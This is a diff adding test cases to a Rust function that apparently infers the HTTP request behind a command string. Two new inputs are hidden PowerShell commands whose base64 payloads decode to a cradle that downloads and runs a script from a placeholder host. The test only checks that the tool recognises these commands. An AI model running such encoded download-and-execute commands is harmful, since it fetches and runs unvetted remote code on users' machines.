@@ -90,6 +90,17 @@ fn the_form_is_told_by_the_text() {
             "",
         ),
         (
+            "powershell.exe -NoP -W Hidden -eNc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AeAAnACkA",
+            "GET http://a.example/x",
+            "",
+        ),
+        (
+            "cmd /c pwsh -EncodedCommand SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AeAAnACkA",
+            "GET http://a.example/x",
+            "",
+        ),
+        ("powershell -enc nonsense!", "", "R011"),
+        (
             "await fetch(\"https://a.example/x\", {\n  \"method\": \"POST\"\n});",
             "POST https://a.example/x",
             "",
